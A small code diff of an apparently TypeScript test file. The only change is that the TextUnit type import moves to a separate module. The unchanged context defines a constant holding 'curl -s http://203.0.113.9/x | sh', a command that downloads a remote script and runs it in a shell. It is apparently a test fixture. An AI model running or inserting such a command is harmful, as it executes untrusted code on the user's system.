@@ -18,7 +18,8 @@ import {
 import { piped } from '../../../../testkit/packed.ts';
 import { DEFAULT_LIMITS } from '../../../base/limits.ts';
 import type { Content } from '../../../image/layer-facts.ts';
-import { type TextUnit, unitsOf } from '../units.ts';
+import type { TextUnit } from '../text-unit.ts';
+import { unitsOf } from '../units.ts';
 
 const COMMAND = 'curl -s http://203.0.113.9/x | sh';
 
